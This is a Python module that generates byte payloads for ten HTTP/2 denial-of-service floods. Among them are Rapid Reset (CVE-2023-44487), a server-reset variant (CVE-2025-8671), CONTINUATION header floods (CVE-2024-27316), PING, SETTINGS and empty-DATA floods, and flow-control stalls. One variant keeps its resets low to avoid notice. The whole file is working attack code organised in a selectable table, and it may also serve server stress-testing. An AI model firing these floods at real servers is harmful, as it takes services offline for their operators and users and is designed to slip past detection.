"""What each flood of HTTP/2 sends: (octets that begin a connection, octets that are repeated, or
None where the connection ends with the first ones or stays as it is)."""
import frames as h2

STREAMS = 10000
UNNOTICED = 450
STALLED = 100
BATCH = 64 * 1024


def many(octets):
    return octets * max(1, BATCH // len(octets))


def hello(*pairs):
    return h2.PREFACE + h2.settings(*pairs)


def stream_numbers(count):
    return range(1, 2 * count, 2)


def reset():
    """Requests, each cancelled at once (CVE-2023-44487)."""
    return hello() + b"".join(h2.request(stream) + h2.rst_stream(stream)
                              for stream in stream_numbers(STREAMS)), None


def leave():
    """Requests cancelled at once, few enough of them to pass for a visitor who leaves a page; then
    another connection."""
    return hello() + b"".join(h2.request(stream) + h2.rst_stream(stream)
                              for stream in stream_numbers(UNNOTICED)), None


def broken():
    """Requests, each broken so that the server resets it (CVE-2025-8671)."""
    return hello() + b"".join(
        h2.request(stream, flags=h2.END_HEADERS) + h2.window_update(stream, h2.LARGEST_WINDOW)
        for stream in stream_numbers(STREAMS)), None


def longer():
    """The same by bodies that are longer than was said."""
    length = b"\x0f\x0d\x011"  # content-length: 1, a literal that is not indexed
    return hello() + b"".join(
        h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.block("/") + length)
        + h2.frame(h2.DATA, h2.END_STREAM, stream, b"xx")
        for stream in stream_numbers(STREAMS)), None


def continuation():
    """One head that never ends, in empty pieces (CVE-2024-27316)."""
    return hello() + h2.request(1, flags=0), many(h2.frame(h2.CONTINUATION, 0, 1))


def long_head():
    """One head that never ends, of fields."""
    field = b"\x00\x01x" + b"\x7f\x81\x07" + b"v" * 1024  # a literal: x, and 1024 octets
    return hello() + h2.request(1, flags=0), many(h2.frame(h2.CONTINUATION, 0, 1, field * 8))


def ping():
    return hello(), many(h2.frame(h2.PING, 0, 0, b"12345678"))


def settings():
    return hello(), many(h2.settings((h2.INITIAL_WINDOW_SIZE, 65535)))


def empty():
    """DATA frames of nothing."""
    return hello() + h2.request(1, flags=h2.END_HEADERS), many(h2.frame(h2.DATA, 0, 1))


def stall():
    """Requests for something large, and no window to send it into."""
    return hello((h2.INITIAL_WINDOW_SIZE, 0)) + b"".join(
        h2.request(stream, "/page") for stream in stream_numbers(STALLED)), b""


KINDS = {"reset": reset, "leave": leave, "broken": broken, "longer": longer,
         "continuation": continuation, "long_head": long_head, "ping": ping,
         "settings": settings, "empty": empty, "stall": stall}
